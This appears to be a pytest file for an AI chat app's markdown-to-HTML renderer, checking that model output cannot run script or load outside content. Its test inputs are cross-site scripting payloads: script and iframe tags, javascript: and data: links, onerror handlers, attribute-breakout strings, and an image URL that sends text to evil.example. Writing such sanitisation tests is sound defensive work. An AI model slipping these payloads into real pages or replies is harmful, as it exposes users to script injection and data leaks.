"""What a model wrote, as HTML: a stranger's words, so nothing in them acts or loads."""

from html.parser import HTMLParser

import pytest

from ai_chat.presentation import html_of, render


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "<a href='data:text/html,x'>x</a>",
        "<img src=x onerror=alert(1)>",
        "![a](https://evil.example/?q=words)",
        '```py" onmouseover="x\nhi\n```',
        "<iframe src=https://evil.example></iframe>",
        "[a](https://evil.example 'x\" style=\"y')",
    ],
)
def test_nothing_in_it_runs_or_loads(evil: str) -> None:
    seen = Tags()
    seen.feed(render(evil))
    for tag, attributes in seen.found:
        assert tag in {"p", "a", "pre", "code"}
        assert {name for name, _ in attributes} <= {"href", "title", "target", "rel"}
        for name, value in attributes:
            assert name != "href" or str(value).startswith("https://")


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**a** _b_ ~~c~~", "<p><strong>a</strong> <em>b</em> <s>c</s></p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("```c++\nx\n```", '<pre><code class="language-c++">x\n</code></pre>'),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
        (
            "[a](https://a.example)",
            '<p><a href="https://a.example" target="_blank" rel="noopener noreferrer nofollow">'
            "a</a></p>",
        ),
        ("", ""),
    ],
)
def test_what_people_write_looks_as_meant(markdown: str, html: str) -> None:
    assert html_of(markdown).strip() == html


def test_tables_are_tables() -> None:
    assert "<td>1</td>" in render("| a |\n|---|\n| 1 |")
